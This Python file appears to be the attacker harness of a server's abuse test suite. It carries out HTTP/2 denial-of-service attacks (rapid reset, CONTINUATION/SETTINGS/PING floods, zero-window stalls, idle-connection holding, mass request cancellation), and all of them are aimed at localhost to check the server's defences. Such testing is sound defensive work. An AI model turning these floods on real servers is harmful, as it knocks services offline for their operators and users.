"""The abuse suite's attackers, each run as a process of its own (lib.attacker) that prints one JSON object:

    attack.py rapid-reset PORT PATH METHOD SECONDS [reconnect]   HEADERS+RST_STREAM pairs as fast as possible
    attack.py flood PORT KIND SECONDS                           continuation | settings | ping, never reading
    attack.py zero-window PORT PATH CONNS STREAMS HOLD          HTTP/2 streams whose window never opens
    attack.py cancel PORT N SEED MAXWAIT_MS [S3PATH BYTES]      N requests on /upload, /calc and /cache (and POST
                                                                S3PATH with a BYTES-byte image) over HTTP/1 and h2c,
                                                                each abandoned at a random moment
    attack.py hold PORT KIND N HOLD                              N connections that sit idle (h1partial: a request
                                                                line and no more; h1line: half a request line;
                                                                h2idle: preface and SETTINGS), held HOLD seconds

Everything goes to 127.0.0.1 only, and every loop is bounded in time."""

import json
import os
import random
import resource
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import h2frames as f  # noqa: E402

HOST = "127.0.0.1"


def rapid_reset(port, path, method, seconds, reconnect=False, batch=250):
    """Sends HEADERS+RST_STREAM pairs for `seconds` on one h2c connection (with `reconnect`, on a new one whenever the
    server closes it). pairs_written counts what reached the socket; taken_where_seen what the server took on the
    connections whose GOAWAY arrived (its last stream id; the rest of their pairs were never read)."""
    deadline = time.monotonic() + seconds
    out = {"pairs_written": 0, "connections": 0, "closed": 0, "goaway": None, "goaway_seen": 0,
           "taken_where_seen": 0, "first_closed_after_s": None, "seconds": seconds}
    t0 = time.monotonic()
    while time.monotonic() < deadline:
        try:
            sock = socket.create_connection((HOST, port), timeout=5)
        except OSError:
            time.sleep(0.01)
            continue
        out["connections"] += 1
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.settimeout(10)
        reader = f.FrameReader()
        pairs = f.ResetPairs(method, path)
        written = 0
        closed = False
        try:
            sock.sendall(f.client_start(window=1 << 30))
            while time.monotonic() < deadline:
                sock.sendall(pairs.batch(batch))
                written += batch
                if not f.drain(sock, reader):
                    closed = True
                    break
        except OSError:
            closed = True
        if not closed:
            closed = not f.drain(sock, reader, wait=0.2)
        sock.close()
        out["pairs_written"] += written
        if reader.goaway is not None:
            # the server's GOAWAY names the last stream it took (a client that goes on writing after the server closed
            # often loses the GOAWAY to the reset its writes provoke)
            out["goaway_seen"] += 1
            out["taken_where_seen"] += min(written, (reader.goaway[0] + 1) // 2)
            if out["goaway"] is None:
                out["goaway"] = reader.goaway_text()
        if closed:
            out["closed"] += 1
            if out["first_closed_after_s"] is None:
                out["first_closed_after_s"] = round(time.monotonic() - t0, 3)
        if not reconnect:
            break
    out["elapsed"] = round(time.monotonic() - t0, 3)
    return out


def flood(port, kind, seconds):
    """Frames of one kind as fast as possible, reading nothing until the end (answers pile up at the server)."""
    sock = socket.create_connection((HOST, port), timeout=5)
    sock.settimeout(5)
    t0 = time.monotonic()
    sent = frames = 0
    closed_at = None
    if kind == "continuation":
        # HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB of literal header fields, never ending
        block = f.header_block("GET", "/cache?key=a")
        chunk = f.frame(f.CONTINUATION, 0, 1, (b"\x00\x04x-aa\x7f\x81\x7f" + b"a" * 255) * 63)  # 63 fields of 255 B
        start = f.client_start() + f.frame(f.HEADERS, 0, 1, block)
        unit = chunk * 4
        per_unit = 4
    elif kind == "settings":
        start = f.client_start()
        unit = f.frame(f.SETTINGS, 0, 0, f.setting(0x3, 100)) * 256
        per_unit = 256
    elif kind == "ping":
        start = f.client_start()
        unit = f.frame(f.PING, 0, 0, b"weirstrs") * 256
        per_unit = 256
    else:
        raise SystemExit("unknown flood %r" % kind)
    try:
        sock.sendall(start)
        while time.monotonic() - t0 < seconds:
            sock.sendall(unit)
            sent += len(unit)
            frames += per_unit
    except socket.timeout:
        pass  # the server stopped reading: its input is bounded
    except OSError:
        closed_at = time.monotonic() - t0
    stalled = closed_at is None and time.monotonic() - t0 < seconds
    reader = f.FrameReader()
    if closed_at is None:
        if not f.drain(sock, reader, wait=1.0):
            closed_at = time.monotonic() - t0
    sock.close()
    return {"kind": kind, "bytes": sent, "frames": frames, "closed": closed_at is not None,
            "closed_after_s": None if closed_at is None else round(closed_at, 3), "stalled": stalled,
            "goaway": reader.goaway_text(), "received": reader.counts}


def zero_window(port, path, conns, streams, hold):
    """conns h2c connections with INITIAL_WINDOW_SIZE 0, each opening `streams` GET streams on path; nothing is read
    for `hold` seconds except to notice that the server closed the connection."""
    socks = []
    block = f.header_block("GET", path)
    for _ in range(conns):
        s = socket.create_connection((HOST, port), timeout=5)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        data = f.client_start(settings=f.setting(0x4, 0))
        for i in range(streams):
            data += f.frame(f.HEADERS, f.END_STREAM | f.END_HEADERS, 2 * i + 1, block)
        s.sendall(data)
        socks.append([s, f.FrameReader(), None])
    t0 = time.monotonic()
    while time.monotonic() - t0 < hold and any(c[2] is None for c in socks):
        open_socks = [c[0] for c in socks if c[2] is None]
        readable, _, _ = select.select(open_socks, [], [], 0.2)
        for c in socks:
            if c[0] in readable:
                try:
                    # a peek: the window stays shut (DATA would not be sent anyway), only a close is seen
                    data = c[0].recv(1, socket.MSG_PEEK)
                except OSError:
                    data = b""
                if not data:
                    c[2] = time.monotonic() - t0
                else:
                    c[0].recv(65536)  # HEADERS of the answers (not flow-controlled); no WINDOW_UPDATE is sent
    closed = [c[2] for c in socks if c[2] is not None]
    for c in socks:
        c[0].close()
    return {"conns": conns, "streams": streams, "closed": len(closed),
            "closed_after_s": None if not closed else [round(min(closed), 2), round(max(closed), 2)]}


def hold(port, kind, n, seconds):
    """n connections that send a little and then nothing, held `seconds`; reports when the server closed them."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if n + 100 > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(n + 100, hard), hard))
    first = {"h1partial": b"GET /cache?key=a HTTP/1.1\r\n", "h1line": b"GET /calc HT",
             "h2idle": f.client_start()}[kind]
    socks = []
    t0 = time.monotonic()
    for _ in range(n):
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect((HOST, port))
        except BlockingIOError:
            pass
        socks.append(s)
    # connected (the kernel completes handshakes for the listen queue even when weir does not accept)
    time.sleep(0.5)
    sent = 0
    for s in socks:
        try:
            s.send(first)
            sent += 1
        except OSError:
            pass
    print(json.dumps({"ready": round(time.monotonic() - t0, 2), "sent": sent}), flush=True)
    closed_at = {}
    while time.monotonic() - t0 < seconds:
        open_socks = [s for s in socks if s.fileno() not in closed_at]
        if not open_socks:
            break
        poller = select.poll()
        for s in open_socks:
            poller.register(s, select.POLLIN | select.POLLERR | select.POLLHUP)
        events = poller.poll(200)
        fdmap = {s.fileno(): s for s in open_socks}
        for fd, ev in events:
            s = fdmap[fd]
            try:
                data = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                closed_at[fd] = time.monotonic() - t0
    times = sorted(closed_at.values())
    for s in socks:
        s.close()
    return {"kind": kind, "n": n, "closed": len(times),
            "closed_after_s": None if not times else [round(times[0], 2), round(times[-1], 2)]}


def cancel(port, n, seed, maxwait_ms, s3_path=None, s3_bytes=0, h1_share=0.3, h1_inflight=200, h2_conns=4,
           h2_streams=80, per_conn=1000):
    """n requests, each abandoned at a uniformly random moment within maxwait_ms of being sent (unless answered
    before): HTTP/1 by closing the connection (half of them with a reset), HTTP/2 by RST_STREAM, and now and then a
    whole h2c connection closed with its streams open. Endpoints: POST /upload, GET /calc with n from 10^6 to 3*10^7,
    GET /cache (whatever backend the path has), and with s3_path POST s3_path with an image of s3_bytes (one DATA
    frame over HTTP/2: at most 16384), a quarter of the requests then."""
    rnd = random.Random(seed)
    targets = [("POST", "/upload", "upload"), ("GET", None, "calc"), ("GET", "/cache?key=k", "cache")]
    stats = {"started": 0, "answered": 0, "abandoned": 0, "conn_closed_with_streams": 0, "h1": 0, "h2": 0,
             "upload": 0, "calc": 0, "cache": 0, "errors": 0}
    if s3_path is not None:
        assert 0 < s3_bytes <= 16384
        targets.append(("POST", s3_path, "s3"))
        stats["s3"] = 0
        image = bytes(rnd.getrandbits(8) for _ in range(s3_bytes))
        image_headers = [("content-type", "image/png"), ("content-length", str(s3_bytes))]
    h1 = {}  # socket -> deadline
    conns = []  # [socket, reader, {sid: deadline}, next_sid, streams opened, abrupt]
    maxwait = maxwait_ms / 1000.0

    def target():
        method, path, name = rnd.choice(targets)
        if path is None:
            path = "/calc?n=%d" % rnd.randint(1000000, 30000000)
        stats[name] += 1
        return method, path

    def new_conn():
        s = socket.create_connection((HOST, port), timeout=10)
        s.sendall(f.client_start(window=1 << 30))
        s.setblocking(False)
        c = [s, f.FrameReader(), {}, 1, 0, rnd.random() < 0.2]  # the last: closed with its streams open
        conns.append(c)
        return c

    def close_h1(s, answered):
        if not answered and rnd.random() < 0.5:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.close()
        del h1[s]
        stats["answered" if answered else "abandoned"] += 1

    t0 = time.monotonic()
    while stats["started"] < n or h1 or any(c[2] for c in conns):
        now = time.monotonic()
        # start what the caps allow
        while stats["started"] < n:
            if rnd.random() < h1_share:
                if len(h1) >= h1_inflight:
                    break
                method, path = target()
                if path == s3_path:
                    request = b"POST %s HTTP/1.1\r\nHost: a\r\nContent-Type: image/png\r\nContent-Length: %d\r\n\r\n%s" % (
                        path.encode(), len(image), image)
                else:
                    request = b"%s %s HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n" % (method.encode(), path.encode())
                try:
                    s = socket.create_connection((HOST, port), timeout=10)
                    s.sendall(request)
                except OSError:
                    stats["errors"] += 1
                    stats["started"] += 1
                    continue
                s.setblocking(False)
                h1[s] = now + rnd.random() * maxwait
                stats["h1"] += 1
            else:
                c = next((c for c in conns if len(c[2]) < h2_streams and c[4] < per_conn), None)
                if c is None:
                    if len(conns) >= h2_conns:
                        break
                    c = new_conn()
                method, path = target()
                sid = c[3]
                c[3] += 2
                c[4] += 1
                if path == s3_path:
                    frames = (f.frame(f.HEADERS, f.END_HEADERS, sid, f.header_block(method, path, headers=image_headers))
                              + f.frame(f.DATA, f.END_STREAM, sid, image))
                else:
                    frames = f.frame(f.HEADERS, f.END_STREAM | f.END_HEADERS, sid, f.header_block(method, path))
                try:
                    c[0].settimeout(10)  # a whole frame or nothing (an image's DATA may not fit the buffer at once)
                    c[0].sendall(frames)
                    c[0].setblocking(False)
                except OSError:
                    stats["errors"] += 1
                c[2][sid] = now + rnd.random() * maxwait
                stats["h2"] += 1
            stats["started"] += 1
        # read what came
        socks = list(h1) + [c[0] for c in conns]
        readable = select.select(socks, [], [], 0.005)[0] if socks else []
        for s in readable:
            if s in h1:
                try:
                    data = s.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                close_h1(s, bool(data))  # an answer (or the server closed): not abandoned
            else:
                c = next(c for c in conns if c[0] is s)
                if not f.drain(s, c[1]):
                    stats["errors"] += len(c[2])
                    c[2].clear()
                    c[4] = per_conn
                for sid in [sid for sid in c[2] if sid in c[1].ended]:
                    del c[2][sid]
                    stats["answered"] += 1
                if c[1].settings_to_ack:
                    try:
                        s.send(f.frame(f.SETTINGS, f.ACK, 0) * c[1].settings_to_ack)
                    except OSError:
                        pass
                    c[1].settings_to_ack = 0
        # abandon what is due
        now = time.monotonic()
        for s in [s for s, d in h1.items() if d <= now]:
            close_h1(s, False)
        for c in conns:
            due = [sid for sid, d in c[2].items() if d <= now]
            if due:
                try:
                    c[0].send(b"".join(f.frame(f.RST_STREAM, 0, sid, struct.pack(">I", f.CANCEL)) for sid in due))
                except OSError:
                    pass
                for sid in due:
                    del c[2][sid]
                stats["abandoned"] += len(due)
        # retire connections that have done their share; now and then with streams still open
        for c in list(conns):
            if c[4] >= per_conn and (not c[2] or c[5]):
                if c[2]:
                    stats["conn_closed_with_streams"] += 1
                    stats["abandoned"] += len(c[2])
                    c[0].setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                c[0].close()
                conns.remove(c)
    for c in conns:
        c[0].close()
    stats["elapsed"] = round(time.monotonic() - t0, 2)
    return stats


def main(argv):
    cmd, port = argv[1], int(argv[2])
    if cmd == "rapid-reset":
        out = rapid_reset(port, argv[3], argv[4], float(argv[5]), reconnect=len(argv) > 6 and argv[6] == "reconnect")
    elif cmd == "flood":
        out = flood(port, argv[3], float(argv[4]))
    elif cmd == "zero-window":
        out = zero_window(port, argv[3], int(argv[4]), int(argv[5]), float(argv[6]))
    elif cmd == "cancel":
        out = cancel(port, int(argv[3]), int(argv[4]), float(argv[5]), *([argv[6], int(argv[7])] if len(argv) > 7 else []))
    elif cmd == "hold":
        out = hold(port, argv[3], int(argv[4]), float(argv[5]))
    else:
        raise SystemExit("unknown attack %r" % cmd)
    print(json.dumps(out))


if __name__ == "__main__":
    main(sys.argv)
